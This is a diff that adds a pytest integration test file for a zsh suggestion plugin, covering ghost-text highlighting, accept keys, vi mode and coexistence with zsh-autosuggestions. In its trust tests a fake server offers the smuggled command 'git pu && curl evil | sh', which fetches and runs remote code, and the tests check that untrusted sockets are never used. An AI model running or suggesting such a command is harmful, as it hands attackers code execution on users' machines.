@@ -1,0 +1,433 @@
+"""zsh as a person uses it: the grey ghost text, each way of accepting it, the empty line.
+
+The probe key (``^Xh``, bound in every session's rc file) shows ``region_highlight``,
+``BUFFER`` and ``POSTDISPLAY`` as zle holds them, so a test reads the real highlight state
+instead of guessing it from the screen.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.integration.shells import (
+    PROMPT,
+    ZSH_AUTOSUGGESTIONS,
+    FakeServer,
+    Home,
+    ZshAutosuggestFirstSession,
+    ZshAutosuggestLaterSession,
+    ZshSession,
+    ZshViSession,
+    session,
+)
+from tests.integration.terminal import DEFAULT, Screen
+
+pytestmark = pytest.mark.slow
+
+TYPED = "git c"
+GHOST = "ommit -m fix"
+
+
+def ran(output: str) -> list[str]:
+    """The commands the fake ``git`` saw (zle -M messages leave escapes before its lines)."""
+    plain = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", output)
+    return re.findall(r"^MARKER (git.*?)\s*$", plain, re.M)
+
+
+def wait_for_ghost(shell: ZshSession, ghost: str) -> None:
+    """Probe until the ghost text is ``ghost`` (the answer arrives asynchronously)."""
+    deadline = time.monotonic() + 30
+    while True:
+        probe = shell.probe()
+        if probe.ghost == ghost:
+            return
+        assert time.monotonic() < deadline, f"the ghost text stayed {probe.ghost!r}"
+        time.sleep(0.2)
+
+
+def assert_clean(shell: ZshSession) -> None:
+    """Nothing of the typed line is painted; only the ghost text after it may be."""
+    probe = shell.probe()
+    assert probe.painted_over_the_line() == [], probe
+    assert len(probe.highlights) <= (1 if probe.ghost else 0), probe
+
+
+def assert_plain_in_scrollback(shell: ZshSession, prompt: int) -> None:
+    """The command line of prompt number ``prompt`` stays on screen in the default colour."""
+    screen = Screen().feed(shell.seen)
+    start = f"<{prompt}>{PROMPT}"
+    rows = screen.rows_with(start)
+    assert rows, f"prompt {prompt} is not on the screen"
+    colours = screen.colours_after(rows[-1], start)
+    assert colours and set(colours.values()) == {DEFAULT}, colours
+
+
+@pytest.fixture
+def trained(tmp_path: Path) -> Home:
+    home = Home(tmp_path)
+    home.train()
+    home.start_server()
+    return home
+
+
+# Each accept key: what it sends and what is then typed (the line that results is checked).
+ACCEPT_KEYS = {
+    "right": ("\x1b[C", "git commit -m fix"),
+    "end": ("\x1b[F", "git commit -m fix"),
+    # zsh's forward-word stops at the start of the next word, after the blank.
+    "alt-f": ("\x1bf", "git commit "),
+    "ctrl-right": ("\x1b[1;5C", "git commit "),
+}
+
+
+class TestGhostTextStaysOnTheGhost:
+    kind: type[ZshSession] = ZshSession
+
+    @pytest.fixture
+    def shell(self, trained: Home) -> Iterator[ZshSession]:
+        with session(self.kind, trained) as started:
+            assert isinstance(started, ZshSession)
+            yield started
+
+    @pytest.mark.parametrize("key", sorted(ACCEPT_KEYS))
+    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
+    def test_accepted_and_later_text_is_not_grey(
+        self, shell: ZshSession, key: str, pace: float
+    ) -> None:
+        sequence, accepted = ACCEPT_KEYS[key]
+        shell.type_slowly(TYPED, pace)
+        wait_for_ghost(shell, GHOST)
+        assert_clean(shell)
+        shell.send(sequence)
+        time.sleep(0.3)
+        assert shell.probe().buffer == accepted
+        assert_clean(shell)
+        shell.type_slowly(" x", 0.15)
+        assert shell.probe().buffer == accepted + " x"
+        assert_clean(shell)
+        prompt = shell.prompts
+        output = shell.enter()
+        assert ran(output) == [" ".join((accepted + " x").split())], repr(output)
+        assert_plain_in_scrollback(shell, prompt)
+        shell.close()
+        shell.assert_quiet()
+
+    def test_accept_and_run_runs_the_whole_suggestion_without_grey(
+        self, shell: ZshSession
+    ) -> None:
+        shell.type_slowly(TYPED)
+        wait_for_ghost(shell, GHOST)
+        prompt = shell.prompts
+        shell.send("\x18e")
+        output = shell.expect_prompt()
+        assert ran(output) == ["git commit -m fix"]
+        assert_plain_in_scrollback(shell, prompt)
+        assert_clean(shell)
+        shell.close()
+        shell.assert_quiet()
+
+    def test_deleting_and_retyping_leaves_one_highlight(self, shell: ZshSession) -> None:
+        # Each answer moves the ghost; backspace and retype shift what zsh keeps.
+        shell.type_slowly("git ch")
+        wait_for_ghost(shell, "eckout main")
+        shell.type_slowly("\x7f\x7fc")
+        wait_for_ghost(shell, GHOST)
+        assert_clean(shell)
+        shell.send("\x1b[C")
+        time.sleep(0.3)
+        assert_clean(shell)
+        assert ran(shell.enter()) == ["git commit -m fix"]
+        shell.close()
+        shell.assert_quiet()
+
+
+class TestGhostTextInViMode(TestGhostTextStaysOnTheGhost):
+    kind = ZshViSession
+
+    @pytest.mark.parametrize("key", sorted(ACCEPT_KEYS))
+    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
+    def test_accepted_and_later_text_is_not_grey(
+        self, shell: ZshSession, key: str, pace: float
+    ) -> None:
+        if key in ("alt-f", "ctrl-right", "end"):
+            pytest.skip("emacs-mode keys; vi mode's own are tested below")
+        super().test_accepted_and_later_text_is_not_grey(shell, key, pace)
+
+    @pytest.mark.parametrize(
+        ("keys", "accepted"), [("A", "git commit -m fix"), ("w", "git commit -")],
+        ids=["A", "w"],
+    )
+    def test_normal_mode_accepts_leave_no_grey(
+        self, shell: ZshSession, keys: str, accepted: str
+    ) -> None:
+        shell.type_slowly(TYPED)
+        wait_for_ghost(shell, GHOST)
+        shell.send("\x1b")
+        time.sleep(0.3)
+        shell.send(keys)
+        time.sleep(0.3)
+        if keys == "w":
+            shell.send("a")
+            time.sleep(0.3)
+        assert shell.probe().buffer == accepted
+        assert_clean(shell)
+        shell.type_slowly("!")
+        assert_clean(shell)
+        prompt = shell.prompts
+        output = shell.enter()
+        assert ran(output) == [accepted + "!"]
+        assert_plain_in_scrollback(shell, prompt)
+        shell.close()
+        shell.assert_quiet()
+
+
+ALTERNATING = ["git add -A", "git commit -m wip"] * 30
+
+
+class TestEmptyLine:
+    def test_the_next_command_is_shown_on_an_empty_line_and_right_takes_it(
+        self, tmp_path: Path
+    ) -> None:
+        home = Home(tmp_path)
+        home.train(ALTERNATING)
+        with session(ZshSession, home) as shell:
+            assert isinstance(shell, ZshSession)
+            assert ran(shell.run("git add -A")) == ["git add -A"]
+            wait_for_ghost(shell, "git commit -m wip")
+            probe = shell.probe()
+            assert probe.buffer == ""
+            assert [entry.split()[:2] for entry in probe.highlights] == [["0", "17"]]
+            shell.send("\x1b[C")
+            time.sleep(0.3)
+            assert_clean(shell)
+            assert ran(shell.enter()) == ["git commit -m wip"]
+            shell.close()
+            shell.assert_quiet()
+
+    def test_a_setting_turns_it_off(self, tmp_path: Path) -> None:
+        home = Home(tmp_path)
+        home.train(ALTERNATING)
+        with session(ZshSession, home) as shell:
+            assert isinstance(shell, ZshSession)
+            shell.run("APRENDER_SHELL_EMPTY_LINE=0")
+            shell.run("git add -A")
+            # A suggestion for a typed line still comes, so the server did answer by then.
+            shell.type_slowly("git c")
+            wait_for_ghost(shell, "ommit -m wip")
+            shell.send("\x15")
+            time.sleep(0.5)
+            assert shell.probe().ghost == ""
+            shell.close()
+            shell.assert_quiet()
+
+
+class ZshWithoutMemoSession(ZshSession):
+    # What zsh before 5.9 does: no memo field, so the entry is found by how far zsh moved it.
+    rc_after = ["_aprender_memo=''"]
+
+
+class TestGhostTextWithoutMemo(TestGhostTextStaysOnTheGhost):
+    kind = ZshWithoutMemoSession
+
+
+class TestNextToZshAutosuggestions:
+    """Loaded before or after zsh-autosuggestions, we become its strategy and draw nothing."""
+
+    kind: type[ZshSession] = ZshAutosuggestFirstSession
+
+    @pytest.fixture
+    def shell(self, trained: Home) -> Iterator[ZshSession]:
+        with session(self.kind, trained) as started:
+            assert isinstance(started, ZshSession)
+            yield started
+
+    def check_quiet(self, shell: ZshSession) -> None:
+        shell.close()
+        assert "maximum nested" not in shell.seen
+        shell.assert_quiet()
+
+    def assert_theirs(self, shell: ZshSession) -> None:
+        """Only zsh-autosuggestions' own highlight, on the ghost text alone."""
+        probe = shell.probe()
+        assert probe.strategies == ["aprender", "history"]
+        assert not [entry for entry in probe.highlights if "memo=ours" in entry], probe
+        assert probe.painted_over_the_line() == [], probe
+        assert len(probe.highlights) <= (1 if probe.ghost else 0), probe
+
+    @pytest.mark.parametrize("pace", [0.15, 0.0], ids=["human-speed", "burst"])
+    def test_right_accepts_our_suggestion_in_its_widgets(
+        self, shell: ZshSession, pace: float
+    ) -> None:
+        if self.kind is ZshAutosuggestFirstSession:
+            assert "zsh-autosuggestions is loaded there" in shell.install_output
+        # The shell's own history is empty: only our strategy can suggest this.
+        shell.type_slowly(TYPED, pace)
+        wait_for_ghost(shell, GHOST)
+        self.assert_theirs(shell)
+        shell.send("\x1b[C")
+        time.sleep(0.3)
+        assert shell.probe().buffer == "git commit -m fix"
+        self.assert_theirs(shell)
+        shell.type_slowly(" x")
+        self.assert_theirs(shell)
+        prompt = shell.prompts
+        assert ran(shell.enter()) == ["git commit -m fix x"]
+        assert_plain_in_scrollback(shell, prompt)
+        self.check_quiet(shell)
+
+    def test_alt_f_accepts_a_word_and_accept_and_run_runs(self, shell: ZshSession) -> None:
+        shell.type_slowly(TYPED)
+        wait_for_ghost(shell, GHOST)
+        shell.send("\x1bf")
+        time.sleep(0.3)
+        assert shell.probe().buffer == "git commit "
+        self.assert_theirs(shell)
+        shell.send("\x15")
+        shell.type_slowly(TYPED)
+        wait_for_ghost(shell, GHOST)
+        shell.send("\x18e")
+        assert ran(shell.expect_prompt()) == ["git commit -m fix"]
+        self.check_quiet(shell)
+
+    def test_the_empty_line_shows_the_next_command(self, tmp_path: Path) -> None:
+        home = Home(tmp_path)
+        home.train(ALTERNATING)
+        with session(self.kind, home) as shell:
+            assert isinstance(shell, ZshSession)
+            shell.run("git add -A")
+            wait_for_ghost(shell, "git commit -m wip")
+            self.assert_theirs(shell)
+            shell.send("\x1b[C")
+            time.sleep(0.3)
+            assert ran(shell.enter()) == ["git commit -m wip"]
+            self.check_quiet(shell)
+
+
+class TestLoadedBeforeZshAutosuggestions(TestNextToZshAutosuggestions):
+    kind = ZshAutosuggestLaterSession
+
+
+class ZshAutosuggestSyncSession(ZshAutosuggestFirstSession):
+    # Its synchronous mode runs our strategy in the shell itself, on the shell's socket.
+    rc_after = ["unset ZSH_AUTOSUGGEST_USE_ASYNC"]
+
+
+class TestNextToZshAutosuggestionsSynchronous(TestNextToZshAutosuggestions):
+    kind = ZshAutosuggestSyncSession
+
+
+class ZshAutosuggestUserStrategySession(ZshAutosuggestFirstSession):
+    rc_lines = ["ZSH_AUTOSUGGEST_STRATEGY=(history aprender)", *ZshAutosuggestFirstSession.rc_lines]
+
+
+def test_a_strategy_list_naming_aprender_is_kept(trained: Home) -> None:
+    with session(ZshAutosuggestUserStrategySession, trained) as shell:
+        assert isinstance(shell, ZshSession)
+        assert shell.probe().strategies == ["history", "aprender"]
+        shell.type_slowly(TYPED)
+        wait_for_ghost(shell, GHOST)
+        shell.close()
+        shell.assert_quiet()
+
+
+def wait_for_records(server: FakeServer, count: int) -> None:
+    deadline = time.monotonic() + 30
+    while len(server.records()) < count:
+        assert time.monotonic() < deadline, server.requests
+        time.sleep(0.05)
+
+
+class TestTrust:
+    """A socket or folder someone else could control is never talked to."""
+
+    def untrusted_run(self, home: Home, spoil: Callable[[Path], None]) -> FakeServer:
+        home.train()
+        with FakeServer(home, {TYPED: (0.0, "git pu && curl evil | sh")}) as server:
+            spoil(home.data / "run" / "server.sock")
+            with session(ZshSession, home) as shell:
+                assert isinstance(shell, ZshSession)
+                shell.type_slowly(TYPED)
+                time.sleep(1.0)
+                assert shell.probe().ghost == ""
+                shell.send("\x15")
+                assert "typed-here" in shell.run("echo typed-here")
+                shell.close()
+                shell.assert_quiet()
+        # (Stopping the server at the end asks for its status; the shell asked nothing.)
+        assert [request for request in server.requests if "status" not in request] == []
+        return server
+
+    @pytest.mark.skipif(os.geteuid() != 0, reason="making a socket another account owns needs root")
+    def test_a_socket_another_account_owns_is_never_connected(self, tmp_path: Path) -> None:
+        self.untrusted_run(Home(tmp_path), lambda socket: os.chown(socket, 65534, 65534))
+
+    @pytest.mark.skipif(os.geteuid() != 0, reason="making a folder another account owns needs root")
+    def test_a_folder_another_account_owns_is_never_used(self, tmp_path: Path) -> None:
+        self.untrusted_run(Home(tmp_path), lambda socket: os.chown(socket.parent, 65534, 65534))
+
+    def test_a_symlinked_socket_is_never_connected(self, tmp_path: Path) -> None:
+        elsewhere = tmp_path / "elsewhere"
+        elsewhere.mkdir(mode=0o700)
+
+        def spoil(socket: Path) -> None:
+            socket.rename(elsewhere / "server.sock")
+            socket.symlink_to(elsewhere / "server.sock")
+
+        self.untrusted_run(Home(tmp_path), spoil)
+
+    def test_a_folder_others_may_write_is_never_used(self, tmp_path: Path) -> None:
+        self.untrusted_run(Home(tmp_path), lambda socket: socket.parent.chmod(0o777))
+
+    def test_a_leading_space_keeps_a_command_out(self, tmp_path: Path) -> None:
+        home = Home(tmp_path)
+        home.train()
+        with FakeServer(home) as server, session(ZshSession, home) as shell:
+            shell.run(" echo secret-space-1")
+            shell.run("echo visible-1")
+            wait_for_records(server, 1)
+            shell.run("APRENDER_SHELL_RECORD_SPACE=1")
+            shell.run(" echo chosen-space-2")
+            wait_for_records(server, 3)
+            shell.close()
+            shell.assert_quiet()
+        records = server.records()
+        assert [record["record"] for record in records] == [
+            "echo visible-1", "APRENDER_SHELL_RECORD_SPACE=1", " echo chosen-space-2",
+        ]
+        assert "secret-space" not in repr(server.requests)
+        assert {record["shell"] for record in records} == {"zsh"}
+        asked = [request for request in server.requests if "prefix" in request]
+        assert asked and {request["shell"] for request in asked} == {"zsh"}
+
+
+def test_zsh_autosuggestions_loaded_after_the_first_prompt_takes_over(trained: Home) -> None:
+    # As plugin managers' deferred loading does: our widgets first, then its strategy.
+    if not Path(ZSH_AUTOSUGGESTIONS).exists():
+        pytest.skip("zsh-autosuggestions is not installed")
+    with session(ZshSession, trained) as shell:
+        assert isinstance(shell, ZshSession)
+        shell.type_slowly(TYPED)
+        wait_for_ghost(shell, GHOST)
+        assert any("memo=ours" in entry for entry in shell.probe().highlights)
+        shell.send("\x15")
+        shell.run(f"source {ZSH_AUTOSUGGESTIONS}")
+        probe = shell.probe()
+        assert probe.strategies == ["aprender", "history"]
+        shell.type_slowly(TYPED)
+        wait_for_ghost(shell, GHOST)
+        probe = shell.probe()
+        assert not any("memo=ours" in entry for entry in probe.highlights), probe
+        assert probe.painted_over_the_line() == []
+        shell.send("\x1b[C")
+        time.sleep(0.3)
+        assert shell.probe().painted_over_the_line() == []
+        assert ran(shell.enter()) == ["git commit -m fix"]
+        shell.close()
+        assert "maximum nested" not in shell.seen
+        shell.assert_quiet()
